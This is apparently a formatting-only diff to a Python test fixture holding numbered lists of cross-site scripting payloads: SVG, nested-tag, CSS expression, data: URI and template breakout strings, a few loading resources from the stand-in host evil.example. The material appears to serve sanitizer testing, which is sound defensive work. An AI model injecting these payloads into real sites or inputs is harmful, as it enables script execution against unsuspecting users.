@@ -96,7 +96,7 @@ _URL_SCHEMES = [
 
 _SVG_MATHML = [
     "<svg><script>alert(76)</script></svg>",
-    "<svg><a xlink:href=\"javascript:alert(77)\"><text x=20 y=20>svg link</text></a></svg>",
+    '<svg><a xlink:href="javascript:alert(77)"><text x=20 y=20>svg link</text></a></svg>',
     "<svg><animate onbegin=alert(78) attributeName=x dur=1s>",
     '<svg><set attributeName="onload" to="alert(79)"/></svg>',
     "<svg><foreignObject><img src=x onerror=alert(80)></foreignObject></svg>",
@@ -109,9 +109,9 @@ _SVG_MATHML = [
 ]
 
 _BROKEN_NESTED = [
-    '<<img src=x onerror=alert(86)//<',
+    "<<img src=x onerror=alert(86)//<",
     '<img """><script>alert(87)</script>">',
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(88)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(88)>">',
     "<a><a href=javascript:alert(89)>nested</a></a>",
     "<p><svg><p><style><img src=x onerror=alert(90)></style></p></svg></p>",
     "<!--<img src=x onerror=alert(91)>-->",
@@ -122,16 +122,16 @@ _BROKEN_NESTED = [
     "<style></style><img src=x onerror=alert(96)>",
     "<template><img src=x onerror=alert(97)></template>",
     "<xmp><img src=x onerror=alert(98)></xmp>",
-    "<iframe srcdoc=\"<script>alert(99)</script>\"></iframe>",
-    "<object data=\"data:text/html,<script>alert(100)</script>\"></object>",
-    "<embed src=\"data:text/html,<script>alert(101)</script>\">",
-    "<base href=\"javascript:alert(102)//\"><a href=x>base</a>",
-    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(103)\">",
-    "<link rel=import href=\"data:text/html,<script>alert(104)</script>\">",
+    '<iframe srcdoc="<script>alert(99)</script>"></iframe>',
+    '<object data="data:text/html,<script>alert(100)</script>"></object>',
+    '<embed src="data:text/html,<script>alert(101)</script>">',
+    '<base href="javascript:alert(102)//"><a href=x>base</a>',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(103)">',
+    '<link rel=import href="data:text/html,<script>alert(104)</script>">',
     "<form><button formaction=javascript:alert(105)>go</button></form>",
     "<isindex action=javascript:alert(106) type=image>",
     "<div><img src=x onerror=alert(107)</div>",
-    "<a href=\"https://example.com\"\" onclick=alert(108)>double quote</a>",
+    '<a href="https://example.com"" onclick=alert(108)>double quote</a>',
     "<a href='https://example.com' ' onmouseover=alert(109)>",
     "<img src=`x` onerror=`alert(110)`>",
 ]
@@ -139,12 +139,12 @@ _BROKEN_NESTED = [
 _CSS = [
     '<div style="width: expression(alert(111))">css</div>',
     '<p style="background:url(javascript:alert(112))">css</p>',
-    "<style>body{background:url(\"javascript:alert(113)\")}</style>",
+    '<style>body{background:url("javascript:alert(113)")}</style>',
     '<div style="behavior: url(xss.htc)">htc</div>',
     '<span style="-moz-binding:url(http://evil.example/x.xml#xss)">moz</span>',
     "<style>@import 'http://evil.example/x.css';</style>",
     '<p style="x:expr/**/ession(alert(117))">comment split</p>',
-    "<link rel=stylesheet href=\"javascript:alert(118)\">",
+    '<link rel=stylesheet href="javascript:alert(118)">',
     '<div style="background-image: url(&#1;javascript:alert(119))">entity</div>',
     "<style>*{x:expression(alert(120))}</style>",
 ]
@@ -160,9 +160,9 @@ _BREAKOUTS = [
     "{{ 7*7 }}{% debug %}<img src=x onerror=alert(128)>",
     "${alert(129)}<img src=x onerror=alert(129)>",
     "\u2028<script>alert(130)</script>\u2029",
-    "<a href=\"https://example.com/\u202e\">rtl</a><img src=x onerror=alert(131)>",
+    '<a href="https://example.com/\u202e">rtl</a><img src=x onerror=alert(131)>',
     "<img src=x onerror=\"window['al'+'ert'](132)\">",
-    "<a href=\"https://example.com\">ok</a><script>window.__xss(133)</script>",
+    '<a href="https://example.com">ok</a><script>window.__xss(133)</script>',
 ]
 
 XSS_PAYLOADS: list[str] = [
